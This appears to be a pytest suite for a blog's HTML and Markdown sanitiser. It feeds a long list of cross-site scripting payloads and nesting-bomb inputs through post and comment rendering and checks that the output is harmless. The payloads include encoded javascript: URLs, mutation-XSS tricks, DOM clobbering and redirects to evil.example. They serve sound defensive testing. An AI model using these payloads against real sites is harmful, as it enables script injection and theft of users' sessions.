"""No text whatever becomes anything harmful or endless."""

import re
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest

from blog.core.cleaner import COMMENT_TAGS, POST_ATTRIBUTES, POST_TAGS, SCHEMES
from blog.core.markup import render_comment, render_post

URLS = {"href", "src", "cite", "poster"}
SET_ON_MEDIA = {"controls"}


def tree(html: str) -> Element:
    """Parse as browsers do; any parse error of what we send out is a failure."""
    parser = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    root = Element("root")
    root.extend(parser.parseFragment(html))
    return root


def elements(html: str) -> list[Element]:
    return list(tree(html).iter())[1:]


def scheme(url: str) -> str:
    """Read the scheme as a browser does: without leading blanks, tabs and newlines (WHATWG URL, section 4.4)."""
    return urlsplit(re.sub(r"[\t\n\r]", "", url).lstrip("".join(map(chr, range(33))))).scheme.lower()


def assert_harmless(html: str, tags: frozenset[str], schemes: frozenset[str]) -> None:
    ids = []
    for element in elements(html):
        assert element.tag in tags
        allowed = POST_ATTRIBUTES["*"] | POST_ATTRIBUTES.get(element.tag, frozenset()) | SET_ON_MEDIA
        for name, value in element.attrib.items():
            assert name in allowed, (element.tag, name)
            assert not name.startswith("on")
            if name in URLS:
                assert scheme(value) in schemes | {""}, value
            if name == "id":
                assert value.startswith("s-")
                ids.append(value)
        if element.tag == "input":
            assert element.attrib["type"] == "checkbox"
            assert "disabled" in element.attrib
    assert len(ids) == len(set(ids))


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)" onload=alert(1)>',
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '![x"onerror="alert(1)](x)',
    '[x](x "t\\" onclick=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password type=password><button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a id=cookie>x</a><a id=cookie>y</a><img name=body id=location>",
    "# cookie\n# cookie\n<a id=cookie>x</a>",
    "<a ping=//evil.example href=/ target=_blank download>x</a>",
    "<video src=javascript:alert(1) poster=javascript:alert(1) autoplay onplay=alert(1)><source src=data:x></video>",
    "<audio src=http://evil.example/a.ogg onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<blockquote cite=javascript:alert(1)>x</blockquote><q cite='java&#10;script:alert(1)'>x</q>",
    "<del cite=' javascript:alert(1)'>x</del><ins cite=data:text/html,x>x</ins>",
    "<a href='java&#1;script:alert(1)'>x</a><a href='javascript&#x0c;:alert(1)'>x</a>",
    "<div class='admin-bar' role=button tabindex=5>x</div>",
    "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><frameset onload=alert(1)>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "</div></article></body></html><script>alert(1)</script>",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    '``` x" onmouseover="alert(1)\ncode\n```',
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    "x[^<script>]\n\n[^<script>]: y",
    "term\n: <script>alert(1)</script>",
    "<p align=left'onmouseover=alert(1)>x</p>",
    "<p align='center' style='text-align:left' onclick=alert(1) class='\"><script>'>x</p>",
    "<p title='align=center><img src=x onerror=alert(1)>'>x</p>",
    "a <!--more--> b <script>alert(1)</script>",
    "<b><i><!--more--><script>alert(1)</script>",
    "{{7*7}} {% include 'x' %} ${7*7}",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_a_hostile_post_is_harmless(source: str) -> None:
    made = render_post(source)
    assert_harmless(made.html, POST_TAGS, SCHEMES)
    assert_harmless(made.more or "", POST_TAGS, SCHEMES)


@pytest.mark.parametrize("source", HOSTILE)
def test_a_hostile_comment_is_harmless(source: str) -> None:
    html = render_comment(source)
    assert_harmless(html, COMMENT_TAGS, SCHEMES)
    for element in elements(html):
        assert not element.attrib.keys() - {"href", "rel", "start"}


def test_the_check_of_harmlessness_can_fail() -> None:
    for html in ("<script></script>", '<p onclick="x"></p>', '<a href="java\tscript:x">x</a>', '<p id="cookie"></p>'):
        with pytest.raises(AssertionError):
            assert_harmless(html, POST_TAGS, SCHEMES)


BOMBS = {
    "quotes": "> " * 10_000,
    "brackets": "[" * 10_000,
    "images": "![" * 10_000,
    "links": "[a](" * 10_000,
    "lists": "- " * 10_000,
    "deep list": "".join("  " * depth + "- a\n" for depth in range(300)),
    "stars": "*" * 10_000 + "a" + "*" * 10_000,
    "emphasis": "*a " * 10_000 + "b*" * 10_000,
    "backticks": " ".join("`" * length for length in range(300)),
    "inline notes": "^[" * 10_000,
    "divs": "<div>" * 20_000,
    "comments": "<!--" * 20_000,
    "more": "<!--more " * 20_000,
    "unclosed attributes": '<p x="' * 10_000,
    "same headings": "# a\n" * 5_000,
    "reopened formatting": "".join(f"<i id={at}>" for at in range(3_000)) + "<p>x" * 3_000,
    "languages": "".join(f"```x{at}\na\n```\n" for at in range(1_000)),
}


@pytest.mark.parametrize("source", BOMBS.values(), ids=BOMBS)
def test_a_nesting_bomb_stays_small_and_raises_nothing(source: str) -> None:
    assert len(render_post(source).html) < 40 * len(source)
    assert len(render_comment(source)) < 40 * len(source)


def test_raw_nesting_is_held_back_only_where_no_writer_goes() -> None:
    deep = "<div>" * 90 + "x" + "</div>" * 90
    assert render_post(deep).html == deep
    assert render_post("<div>" * 5_000).html.count("<div>") == 100
    assert render_post("<p>a <b>x</b> <br>\n" * 300).html.count("<b>") == 300
